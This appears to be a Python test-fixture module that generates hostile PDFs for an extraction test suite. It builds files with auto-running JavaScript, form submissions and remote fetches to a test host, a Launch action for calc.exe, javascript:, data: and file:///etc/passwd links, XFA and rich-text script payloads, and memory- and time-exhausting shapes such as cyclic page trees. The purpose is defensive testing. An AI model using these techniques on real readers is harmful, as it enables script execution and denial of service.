"""PDFs that try to act where they are read, each by another part of the format; and heavy ones."""

from pathlib import Path

from tests.extraction.files import raw_pdf, stream

PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
)
WORDS = stream(b"BT /F 24 Tf 40 300 Td (Folha hostil) Tj ET")
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"


def one_page(path: Path, *more: bytes, catalogue: bytes = b"", page: bytes = b"") -> bytes:
    """Make a page of words; `more` are objects from number 6 on, for catalogue and page to name."""
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    root = b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>"
    return raw_pdf(path, root, pages, PAGE + page + b">>", WORDS, FONT, *more).read_bytes()


def active(home: str, folder: Path) -> dict[str, bytes]:
    """Return files that run, ask or fetch something wherever a reader lets them."""
    path, to = folder / "hostile.pdf", home.encode()
    script = b"(app.alert\\('pdf'\\); app.launchURL\\('%s/js', true\\))" % to
    js = b"<</S/JavaScript/JS %s>>" % script
    fetched = b"<</S/URI/URI(%s/opened)>>" % to
    form = b"<</S/SubmitForm/F<</FS/URL/F(%s/form)>>/Flags 4>>" % to
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(campo)/V(oi)/Rect[10 10 200 40]/A %s"
    field += b"/AA<</F %s/K %s/E %s/PO %s>>>>"
    button = b"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(enviar)/Rect[210 10 390 40]"
    button += b"/A %s>>" % form
    links = [
        b"javascript:alert\\('link'\\)",
        b"JaVaScRiPt:alert\\('link'\\)",
        b"data:text/html,<script>alert\\(1\\)</script>",
        b"file:///etc/passwd",
        b"ftp://firm.example/x",
        b"//firm.example/x",
        b"\\\\\\\\firm.example\\\\x",
    ]
    over = b"/Annots[%s]" % b" ".join(b"%d 0 R" % number for number in range(6, 6 + len(links)))
    link = b"<</Type/Annot/Subtype/Link/Rect[0 %d 400 %d]/A<</S/URI/URI(%s)>>>>"
    other = {
        b"launch": b"<</S/Launch/F(calc.exe)/NewWindow true>>",
        b"remote": b"<</S/GoToR/F<</FS/URL/F(%s/remote.pdf)>>/D[0/Fit]>>" % to,
        b"import": b"<</S/ImportData/F<</FS/URL/F(%s/data.fdf)>>>>" % to,
        b"hide": b"<</S/Hide/T(campo)>>",
        b"named": b"<</S/Named/N/Print>>",
    }
    xfa = (
        "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/"
        "xfa-template/3.3/'><subform name='a'><event activity='initialize'><script contentType="
        f"'application/x-javascript'>app.alert(1);xfa.host.gotoURL('{home}/xfa')</script></event>"
        f"<field><ui><imageEdit/></ui><value><image href='{home}/xfa-image'/></value></field>"
        "</subform></template></xdp:xdp>"
    ).encode()
    page = f"<html><script>alert(1)</script><img src='{home}/attached'></html>".encode()
    rich = (
        f"<body xmlns='http://www.w3.org/1999/xhtml'><p><img src='{home}/rich' onerror='alert(1)'/>"
    )
    rich += "<a href='javascript:alert(1)'>x</a></p><script>alert(1)</script></body>"
    written = rich.encode().replace(b"(", b"\\(").replace(b")", b"\\)")
    note = b"<</Type/Annot/Subtype/Text/Open true/Rect[300 300 320 320]/Contents(oi)/Popup 7 0 R"
    note += b"/RC(%s)>>" % written
    popup = b"<</Type/Annot/Subtype/Popup/Open true/Parent 6 0 R/Rect[100 100 300 200]>>"
    elsewhere = (
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8"
    )
    elsewhere += b"/F<</FS/URL/F(%s/picture)>>/FFilter/DCTDecode/Length 0>>stream\n\nendstream" % to
    movie = (
        b"<</Type/Annot/Subtype/Movie/Rect[0 0 99 99]/Movie<</F<</FS/URL/F(%s/movie)>>>>/A true>>"
        % to
    )
    screen = b"<</Type/Annot/Subtype/Screen/Rect[0 0 99 99]/A<</S/Rendition/OP 0/JS %s>>>>" % script
    glyphs = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 (1\\);alert\\(1)]"
    glyphs += b"/CharProcs<</a 7 0 R>>/Encoding<</Differences[70/a]>>"
    glyphs += b"/FirstChar 70/LastChar 70/Widths[1]>>"
    attached = b"<</Type/EmbeddedFile/Subtype/text#2Fhtml/Length %d>>stream\n%s\nendstream"
    into = b"/OpenAction<</S/GoToE/T<</R/C/N(a.html)>>/D[0/Fit]>>"
    made = {
        "script at opening": one_page(path, catalogue=b"/OpenAction " + js),
        "script by name": one_page(path, catalogue=b"/Names<</JavaScript<</Names[(a) %s]>>>>" % js),
        "script of the page": one_page(path, page=b"/AA<</O %s/C %s>>" % (js, js)),
        "script of the file": one_page(path, catalogue=b"/AA<</WC %s/WP %s/DP %s>>" % (js, js, js)),
        "address at opening": one_page(path, catalogue=b"/OpenAction " + fetched),
        "form sent at opening": one_page(path, catalogue=b"/OpenAction " + form),
        "fields": one_page(
            path,
            field % (js, js, js, js, js),
            button,
            catalogue=b"/AcroForm<</Fields[6 0 R 7 0 R]/NeedAppearances true/CO[6 0 R]>>",
            page=b"/Annots[6 0 R 7 0 R]",
        ),
        "links": one_page(
            path,
            *(link % (40 * place, 40 * place + 30, uri) for place, uri in enumerate(links)),
            page=over,
        ),
        "xfa": one_page(
            path, stream(xfa), catalogue=b"/AcroForm<</XFA 6 0 R/Fields[]>>/NeedsRendering true"
        ),
        "attachment": one_page(
            path,
            attached % (len(page), page),
            b"<</Type/Filespec/F(a.html)/EF<</F 6 0 R>>>>",
            b"<</Type/Annot/Subtype/FileAttachment/FS 7 0 R/Rect[0 0 400 400]/A %s>>" % js,
            catalogue=b"/Names<</EmbeddedFiles<</Names[(a.html) 7 0 R]>>>>" + into,
            page=b"/Annots[8 0 R]",
        ),
        "rich note": one_page(path, note, popup, page=b"/Annots[6 0 R 7 0 R]"),
        "picture elsewhere": one_page(path, elsewhere, page=b"/XObject<</I 6 0 R>>"),
        "film": one_page(path, movie, screen, page=b"/Annots[6 0 R 7 0 R]"),
        "font": one_page(path, glyphs, stream(b"1 0 d0 0 0 1 1 re f")).replace(
            b"/F 5 0 R", b"/F 6 0 R"
        ),
    }
    for name, action in other.items():
        annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A %s>>" % action
        opening = b"/OpenAction " + action
        made[name.decode()] = one_page(path, annotation, catalogue=opening, page=b"/Annots[6 0 R]")
    return made


def heavy(folder: Path) -> dict[str, bytes]:
    """Return files whose shape would take all there is of memory or time."""
    path = folder / "heavy.pdf"
    boxes = {
        "huge": b"0 0 9000000 9000000",
        "narrow": b"0 0 1 9000000",
        "empty": b"0 0 0 0",
        "upside down": b"400 400 0 0",
        "no numbers": b"/a /b /c /d",
    }
    made = {
        f"{name} page": one_page(path).replace(b"0 0 400 400", box) for name, box in boxes.items()
    }
    many = 5_000
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(many))
    made["thousands of pages"] = raw_pdf(
        path,
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (many, kids),
        *(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]>>" for _ in range(many)),
    ).read_bytes()
    made["pages in a circle"] = raw_pdf(
        path,
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>",
    ).read_bytes()
    whole = one_page(path)
    made["no table"] = whole[: whole.index(b"xref")]
    made["table elsewhere"] = whole.replace(b"startxref\n", b"startxref\n99999")
    long_stroke = b"0 0 m " + b"400 400 l 0 0 l " * 60_000 + b"S"
    made["endless strokes"] = raw_pdf(
        path,
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE + b">>",
        stream(long_stroke),
        FONT,
    ).read_bytes()
    return made
